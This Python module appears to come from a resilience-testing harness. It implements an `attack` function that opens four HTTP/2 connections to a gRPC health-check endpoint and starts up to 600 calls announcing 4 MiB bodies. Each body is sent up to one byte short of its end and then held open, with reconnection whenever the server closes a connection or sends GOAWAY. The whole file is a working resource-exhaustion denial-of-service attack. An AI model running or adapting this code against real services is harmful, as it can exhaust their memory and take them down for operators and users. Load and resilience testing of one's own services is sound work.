"""Bodies of `grpc.health.v1.Health/Check` without a key that stop one byte before their end."""

from __future__ import annotations

import time
from typing import Dict

from http2 import Connection, head
from outcome import Outcome
from service import Target

CALLS = 600
# The announced message is as large as tonic takes one by default.
MESSAGE = 4 << 20
CONNECTIONS = 4
# Once all of them were begun: what is measured is what is held, and not what it costs to refuse them.
MORE_A_SECOND = 50
CHECK = head("/grpc.health.v1.Health/Check")


def attack(target: Target, source: str, seconds: float) -> Outcome:
    """600 bodies of 4 MiB on 4 connections, sent as fast as the service takes them, and then held."""
    body = memoryview(b"\0" + MESSAGE.to_bytes(4, "big") + bytes(MESSAGE - 1))
    connections = [Connection(target.grpc, source) for _ in range(CONNECTIONS)]
    # How far each call is.
    sent: Dict[int, Dict[int, int]] = {}
    begun = taken = 0
    began = time.monotonic()
    while (passed := time.monotonic() - began) < seconds:
        for place, connection in enumerate(connections):
            if connection.is_closed or connection.goaway:
                connection.close()
                connections[place] = connection = Connection(target.grpc, source)
            calls = sent.setdefault(id(connection), {})
            for number in list(calls):
                if connection.streams[number].is_reset or connection.streams[number].is_ended:
                    del calls[number]
            # Two at a time go on; the others wait for them, so that each gets far.
            for number in [number for number, done in calls.items() if done < len(body)][:2]:
                more = connection.upload(number, body[calls[number] :], end=False)
                calls[number] += more
                taken += more
            is_idle = sum(done < len(body) for done in calls.values()) < 2
            if is_idle and len(calls) < CALLS // CONNECTIONS and begun < CALLS + MORE_A_SECOND * passed:
                calls[connection.begin(CHECK)] = 0
                begun += 1
            connection.receive(0.002)
    for connection in connections:
        connection.close()
    return Outcome(f"{begun} bodies begun, {taken >> 20:,} MiB of them taken")
